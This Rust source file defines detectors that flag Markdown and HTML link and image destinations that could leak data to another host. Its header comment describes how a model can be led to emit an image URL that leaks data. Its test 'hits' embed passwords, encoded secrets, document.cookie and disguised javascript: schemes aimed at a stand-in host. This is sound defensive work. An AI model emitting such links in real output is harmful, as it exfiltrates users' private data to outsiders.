//! `EXFILTRATION_URL`: where a link or an image of Markdown or HTML leads, if that would carry data to
//! another host; and `EXTERNAL_IMAGE`: where an image leads, whatever it carries.
//!
//! A page fetches an image unasked, so whoever makes a model write `![](https://x.example/?q=…)` reads
//! what stands in the query. [`url`](super::url) says what carries data. Only the destination goes:
//! it is held from behind its bracket, quotation mark or equals sign on, so nothing else waits for
//! it. A bare URL in a sentence is no link of this kind: somebody has to follow it.
//!
//! Destinations stand behind `](` and `]:` (CommonMark, sections 4.7 and 6.3), between `<` and `>`
//! (section 6.5), behind `url(` (CSS) and in the attributes of HTML that hold URLs.

use super::href::{Href, MAX_URL, Policy};
use super::markup::{Around, UrlCloser, is_space};
use super::{Automaton, Closer, END, Finder, Found, Scan, Spec, Tier};
use crate::edit::Entity;
use crate::left::{Left, REACH};

pub(super) static SPEC: Spec = Spec {
    entity: Entity::EXFILTRATION_URL,
    placeholder: "[LINK]",
    tier: Tier::Certain,
    about: "the destination of a link or an image that would carry data to another host",
    source: "CommonMark 0.31, sections 4.7, 6.3 to 6.5; URL standard; OWASP LLM02, LLM05",
    finder: Finder::Scan {
        new: || Automaton::Link(Link::new(false)),
        wakes: |c, _| is_opener(c),
        holds: None,
    },
    hits: &[
        "![logo](«https://x.example/l.png?q=his+password+is+hunter2»)",
        "![x](\n  <«//x.example/?d=c2VjcmV0»> \"t\")",
        "[more](«https://x.example/p?z=SGUgc2FpZCBoaSB0byBtZQ==») about it",
        "[1]: «https://x.example/note=his+password+is+hunter2»",
        "<«https://user:pass@x.example/»>",
        "<img src=\"«https://x.example/i.gif?c=document.cookie»\">",
        "<form action='«https://x.example/»'>",
        "url(«https://0x7f.1/a.png»)",
        "[x](«javascript&3a;alert(1)»)",
        "![x](«viewer:open('hunter2')»)",
        "![x](«java\\x3cscript:f('hunter2')»)",
        "![x](«https://x.example/java%00script.png»)",
        "![x](«https://x.example/%2570%2561ss.png»)",
        "<«https://x.example/a%0D%0Ab»>",
        "<«https://x.example/%252E%252E%252Fb»>",
        "<«https://x.example/![a](file:///b)»>",
    ],
    misses: &[
        "![logo](https://x.example/l.png?style=flat&v=2)",
        "![x](/l.png?q=his+password+is+hunter2)",
        "[search](https://x.example/search?q=how+to+cook+rice)",
        "[x](https://x.example/a/b-c-d.html?id=17#part-two)",
        "https://x.example/i.gif?c=document.cookie",
        "<a href=\"https://x.example/?page=2\">",
        "<form action=\"/save\">",
        "[x](javascript.md)",
        "![x](attachment:plot.png) ![x](C:/plot.png) [x](viewer:open(1))",
        "![x](https://x.example/a%20b%20plot.png) [x](mailto:a?body=b%0Ac)",
        "[x](https://x.example/?u=a%2520b)",
        "img.src = \"https://x.example/?c=d\"",
    ],
};

pub(super) static IMAGE_SPEC: Spec = Spec {
    entity: Entity::EXTERNAL_IMAGE,
    placeholder: "[IMAGE]",
    tier: Tier::Certain,
    about: "the destination of any image on another host",
    source: "CommonMark 0.31, section 6.4; HTML standard, section 4.8.3",
    finder: Finder::Scan {
        new: || Automaton::Link(Link::new(true)),
        wakes: |c, _| is_opener(c),
        holds: None,
    },
    hits: &["![x](«https://x.example/l.png»)"],
    misses: &["![x](l.png)", "[x](https://x.example/)"],
};

const SCRIPT: &str = "javascript";
/// Schemes of images that are shown without asking another host or program.
const INLINE: [&str; 9] = [
    "data",
    "cid",
    "blob",
    "attachment",
    "sandbox",
    "asset",
    "assets",
    "resource",
    "about",
];
/// The longest scheme that is looked at.
const MAX_SCHEME: usize = 24;
/// Blanks and line ends before a destination.
const MAX_BLANKS: usize = 3;

#[derive(Clone, Debug)]
pub(crate) struct Link {
    /// Looks for images of other hosts, and for nothing else.
    all_images: bool,
    start: u64,
    stage: Stage,
    policy: Policy,
    around: Around,
    /// A blank ends the URL.
    is_word: bool,
}

#[derive(Clone, Copy, Debug, Default)]
enum Stage {
    #[default]
    Out,
    /// Before the URL, behind so many blanks.
    Before(usize),
    /// So many characters of `javascript`.
    Script(usize),
    /// So many characters of `http`.
    Http(usize),
    /// Behind it, before the colon.
    Colon,
    /// So many characters of `file:`.
    File(usize),
    /// So many characters of the scheme of an image.
    Scheme(usize),
    /// Before a slash of those that begin the authority.
    Slashes,
    Body,
}

impl Scan for Link {
    fn step(&mut self, c: char, at: u64, left: Left<'_>) -> Option<Found> {
        let found = match self.stage {
            Stage::Out => None,
            Stage::Body => self.body(c, at, left),
            Stage::Script(n) if n == SCRIPT.len() => self.disguised(c, at),
            Stage::Scheme(n) if c == ':' => self.foreign(n, at, left),
            _ => {
                self.stage = self.head(c, at);
                None
            }
        };
        if found.is_none() && matches!(self.stage, Stage::Out) {
            self.begin(c, at, left);
        }
        found
    }

    fn live(&self) -> Option<u64> {
        (!matches!(self.stage, Stage::Out)).then_some(self.start)
    }

    fn is_anchored(&self, at: u64, left: Left<'_>) -> bool {
        matches!(self.stage, Stage::Body) && self.is_found(at, left)
    }

    fn reset(&mut self) {
        *self = Self::new(self.all_images);
    }
}

impl Link {
    fn new(all_images: bool) -> Self {
        Self {
            all_images,
            start: 0,
            stage: Stage::Out,
            policy: Policy::Link,
            around: Around::Nothing,
            is_word: true,
        }
    }

    fn begin(&mut self, c: char, at: u64, left: Left<'_>) {
        // A link may begin with what is shown in place of a finding.
        let is_behind_bracket = || left.back(at).next() == Some(b']');
        let policy = match c {
            '(' if is_behind_bracket() => Some(markdown(at, left)),
            '(' if left.back(at).take(3).eq(*b"lru") => Some(Policy::Image),
            ':' if is_behind_bracket() => Some(Policy::Link),
            '<' => Some(Policy::Link),
            '=' => attribute(at, left),
            _ => None,
        };
        let Some(policy) = policy else {
            return;
        };
        self.policy = policy;
        self.is_word = true;
        self.around = match c {
            '(' => Around::Parentheses(0),
            '<' => Around::Angles,
            _ => Around::Nothing,
        };
        (self.stage, self.start) = (Stage::Before(0), at + 1);
    }

    /// Before a URL, and up to the slashes behind its scheme.
    fn head(&mut self, c: char, at: u64) -> Stage {
        let is_slash = matches!(c, '/' | '\\');
        let is_before = matches!(self.stage, Stage::Before(_));
        if is_before && self.opens(c) {
            self.start = at + 1;
            return Stage::Before(MAX_BLANKS);
        }
        match self.stage {
            Stage::Before(n) if is_space(c) && n < MAX_BLANKS && self.around != Around::Angles => {
                self.start = at + 1;
                Stage::Before(n + 1)
            }
            Stage::Before(_) if c == 'h' => Stage::Http(1),
            Stage::Before(_) if c == 'j' => Stage::Script(1),
            Stage::Script(n) if SCRIPT.chars().nth(n) == Some(c) => Stage::Script(n + 1),
            Stage::Script(n) if self.is_picture() && is_scheme(c) => Stage::Scheme(n + 1),
            Stage::Before(_) if c == 'f' => Stage::File(1),
            Stage::Before(_) if self.is_picture() && c.is_ascii_lowercase() => Stage::Scheme(1),
            Stage::Scheme(n) if n < MAX_SCHEME && is_scheme(c) => Stage::Scheme(n + 1),
            Stage::Before(_) if is_slash => Stage::Slashes,
            Stage::Http(n) if "http".chars().nth(n) == Some(c) => match n + 1 {
                4 => Stage::Colon,
                n => Stage::Http(n),
            },
            // The second `s` of a scheme is none of ours, and no host begins behind it.
            Stage::Colon if c == 's' => Stage::Colon,
            Stage::Colon if c == ':' => Stage::Slashes,
            Stage::File(n) if "file:".chars().nth(n) == Some(c) => match n + 1 {
                5 => Stage::Body,
                n => Stage::File(n),
            },
            Stage::Slashes if is_slash => Stage::Body,
            _ => Stage::Out,
        }
    }

    /// A quotation mark or an angle bracket that the URL stands in.
    fn opens(&mut self, c: char) -> bool {
        let around = match (self.around, c) {
            (Around::Nothing | Around::Parentheses(_), '"' | '\'') => Around::Quotes(c),
            (Around::Nothing | Around::Parentheses(_), '<') => Around::Angles,
            _ => return false,
        };
        // Such a URL may hold blanks.
        self.is_word = around != Around::Angles && self.policy != Policy::Image;
        self.around = around;
        true
    }

    /// Whether the destination is that of an image in Markdown.
    fn is_picture(&self) -> bool {
        let is_markdown = matches!(self.around, Around::Parentheses(_) | Around::Angles);
        is_markdown && self.policy == Policy::Image && !self.all_images
    }

    /// Behind the colon of a scheme. An image comes from a host or is a part of the text; any other
    /// scheme hands what stands behind it to a program. One letter is a drive.
    fn foreign(&mut self, len: usize, at: u64, left: Left<'_>) -> Option<Found> {
        self.stage = Stage::Out;
        let scheme = left.held.slice(self.start, at).iter();
        let scheme = scheme
            .filter(|symbol| !symbol.hidden)
            .map(|symbol| symbol.ch);
        let is_inline = INLINE.iter().any(|name| scheme.clone().eq(name.chars()));
        let closer = Closer::Url(UrlCloser::new(self.around));
        (len > 1 && !is_inline).then(|| Found::opening(self.start, at + 1, closer))
    }

    /// Behind `javascript`: no name of a file goes on with a sign that stands for a colon where
    /// one more level of spelling is undone.
    fn disguised(&mut self, c: char, at: u64) -> Option<Found> {
        self.stage = Stage::Out;
        let is_sign = matches!(
            c,
            '&' | '%' | '\\' | '#' | '@' | '+' | '~' | '^' | '|' | '*'
        );
        let closer = Closer::Url(UrlCloser::new(self.around));
        (is_sign && !self.all_images).then(|| Found::opening(self.start, at + 1, closer))
    }

    fn body(&mut self, c: char, at: u64, left: Left<'_>) -> Option<Found> {
        // What was spelled in another way belongs to the URL.
        let is_raw = left.held.get(at).is_none_or(|symbol| symbol.raw <= 2);
        let is_end = is_raw && (self.around.ends(c) || self.is_word && is_space(c));
        if is_end || c == END {
            self.stage = Stage::Out;
            // Something else that is found ends it, or the text: then nobody knows what it carries.
            // Without brackets or quotation marks it may just have ended.
            let is_broken = c == END && self.is_broken(at, left);
            return (is_broken || self.is_found(at, left)).then(|| Found::new(self.start, at));
        }
        // No URL holds such a character, so it is spelled to be misread.
        if is_raw && (c == '<' || c.is_control()) {
            self.stage = Stage::Out;
            return (!self.all_images).then(|| Found::new(self.start, at));
        }
        if at - self.start >= MAX_URL as u64 {
            self.stage = Stage::Out;
            let closer = Closer::Url(UrlCloser::new(self.around));
            let is_found = !self.all_images || self.policy == Policy::Image;
            return is_found.then(|| Found::opening(self.start, at + 1, closer));
        }
        None
    }

    fn is_broken(&self, at: u64, left: Left<'_>) -> bool {
        let symbols = left.held.slice(self.start, at);
        let is_redacted = symbols.iter().any(|symbol| symbol.ch == '[');
        self.around != Around::Nothing && !self.all_images && !is_redacted
    }

    fn is_found(&self, at: u64, left: Left<'_>) -> bool {
        let mut room = [0; MAX_URL];
        let url = Href::new(left.held.slice(self.start, at), &mut room);
        if self.all_images {
            return self.policy == Policy::Image && url.has_host();
        }
        url.carries_data(self.policy)
    }
}

/// What stands in a scheme, and marks that readers drop or read in another way. No path may have a
/// colon before its first slash (RFC 3986, section 4.2), so nothing else is meant.
fn is_scheme(c: char) -> bool {
    let is_mark = matches!(c, '+' | '-' | '\\' | '<' | '"' | '\'' | '&' | ';');
    c.is_ascii_lowercase() || c.is_ascii_digit() || is_mark
}

fn is_opener(c: char) -> bool {
    matches!(c, '(' | ':' | '<' | '=')
}

/// Whether the bracket that ends before `at` is that of an image. One that begins beyond the reach
/// may be.
fn markdown(at: u64, left: Left<'_>) -> Policy {
    let mut back = left.back(at);
    let (mut open, mut len) = (0, 0);
    for byte in back.by_ref() {
        len += 1;
        match byte {
            b']' => open += 1,
            b'[' => open -= 1,
            b'\n'..=b'\r' => return Policy::Link,
            _ => {}
        }
        if open == 0 {
            let is_image = back.next() == Some(b'!');
            return if is_image {
                Policy::Image
            } else {
                Policy::Link
            };
        }
    }
    if len < REACH {
        Policy::Link
    } else {
        Policy::Image
    }
}

/// What the attribute before a `=` does with a URL.
fn attribute(at: u64, left: Left<'_>) -> Option<Policy> {
    let mut back = left.back(at).peekable();
    let mut blanks = 0;
    while blanks < MAX_BLANKS && back.next_if(|b| matches!(b, b' ' | b'\t')).is_some() {
        blanks += 1;
    }
    let mut room = [0; 12];
    let mut len = 0;
    while let Some(byte) = back.next_if(u8::is_ascii_lowercase) {
        *room.iter_mut().rev().nth(len)? = byte;
        len += 1;
    }
    let policy = match room.get(room.len() - len..)? {
        b"src" | b"srcset" | b"poster" | b"background" | b"lowsrc" | b"dynsrc" => Policy::Image,
        b"href" | b"cite" | b"longdesc" => Policy::Link,
        b"action" | b"formaction" | b"ping" => Policy::Form,
        _ => return None,
    };
    let before = back.next();
    let is_name = before.is_none_or(|b| b.is_ascii_whitespace() || b"/\"':`".contains(&b));
    // With blanks around it may be an assignment.
    let is_attribute = is_name && (blanks == 0 || back.any(|b| b == b'<'));
    is_attribute.then_some(policy)
}
